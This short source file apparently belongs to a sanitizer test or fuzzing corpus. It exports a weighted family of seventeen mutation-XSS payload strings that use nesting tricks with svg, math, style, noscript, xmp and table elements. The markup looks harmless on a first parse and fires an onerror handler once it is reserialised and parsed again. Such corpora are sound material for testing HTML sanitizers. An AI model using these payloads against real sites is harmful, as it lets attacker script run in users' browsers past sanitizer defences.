import { family } from "./payload";

/** Markup that is harmless when it is parsed once and runs when what was serialised is parsed again. */
export const mutations = family("mutation XSS", 700, [
  '<svg></p><style><a id="</style><img src=x onerror=RUN>">',
  '<math></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">',
  '<math><mtext><table><mglyph><style><math href="x"><img title="</style><img src=x onerror=RUN>">',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '<svg><style><img title="</style><img src=x onerror=RUN>"></style></svg>',
  '<table><td><svg><desc><td></desc></svg><p title="</td><img src=x onerror=RUN>">x',
  '<select><template><style><!--</template><a rel="--></style></select><img src=x onerror=RUN>">',
  '<a><table><a><img title="`><img src=x onerror=RUN>"></a></table></a>',
  "<listing>&lt;img src=x onerror=RUN&gt;</listing>",
  "<pre>\n&lt;img src=x onerror=RUN&gt;</pre>",
  "<h1><table><h1><td><a><svg><a><title></a><img src=x onerror=RUN>",
  '<img title="``onerror=RUN" src=x>',
  "<b><p><b><i><a></p><svg><a><p><style><img src=x onerror=RUN>",
  '<xmp><p id="</xmp><img src=x onerror=RUN>"></xmp>',
  '<div><math><annotation-xml encoding="text/html"><style></math><img src=x onerror=RUN></style>',
]);
